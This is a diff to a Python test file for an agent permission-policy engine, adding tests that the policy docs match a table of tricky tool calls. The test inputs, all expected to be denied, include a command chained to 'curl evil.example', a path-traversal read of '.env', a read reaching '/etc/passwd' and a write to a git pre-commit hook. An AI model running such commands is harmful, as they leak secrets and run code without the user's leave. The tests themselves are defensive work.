@@ -2,11 +2,13 @@
 
 import json
 import sys
+import tomllib
 from pathlib import Path
 from typing import Any
 
 import pytest
 
+from interlock.engine.policy_file import read_policy
 from interlock_adapters.cli.options import Options, request_of
 from interlock_adapters.cli.plan import settled
 from interlock_adapters.cli.policy import explain_call
@@ -24,7 +26,7 @@ TRICKY = [
     # a call, its result, the part that decides, the rule, and words that explain it
     ("shell: git push origin main", "run", "allow rules", "shell(git push:*)", ()),
     ("shell: git -C . push --tags --force", "deny", "deny rules", FORCE, ("nothing else outweighs it",)),
-    ("shell: git push; curl evil.example", "deny", "otherwise", None, ("no narrow rule",)),
+    ("shell: git push; curl evil.example", "deny", "otherwise", None, ("it runs 'git push', 'curl evil.example'",)),
     ('Bash {"command": "cat docs/../.env"}', "deny", "deny rules", ENV, ()),
     ("read: link", "deny", "otherwise", None, ("'/etc/passwd', outside",)),
     ("write: .git/hooks/pre-commit", "deny", "otherwise", None, ("configures or runs programs", "posture full")),
@@ -96,6 +98,20 @@ def test_ten_tricky_calls(
     assert rule is None or decides["source"] == f"the policy {world.policy}"
     for word in words:
         assert word in found.raw
+
+
+def test_the_ten_calls_stand_in_the_docs_with_the_same_policy() -> None:
+    page = (Path(__file__).parents[2] / "docs/policy.md").read_text(encoding="utf-8")
+    for call, result, part, _, _ in TRICKY:
+        assert f"| `{call}` | {result} | {part} |" in page
+    example = tomllib.loads(page.split("```toml\n")[1].split("```")[0])
+    assert example["permission"] == tomllib.loads(POLICY)["permission"]
+
+
+@pytest.mark.parametrize("number", [1, 2])
+def test_the_policies_in_the_docs_are_policies(world: World, number: int) -> None:
+    page = (Path(__file__).parents[2] / "docs/policy.md").read_text(encoding="utf-8")
+    assert read_policy(world.write("docs.toml", page.split("```toml\n")[number].split("```")[0]))
 
 
 def test_the_explanation_for_people_goes_through_the_decision_in_order(said: Any, world: World) -> None:
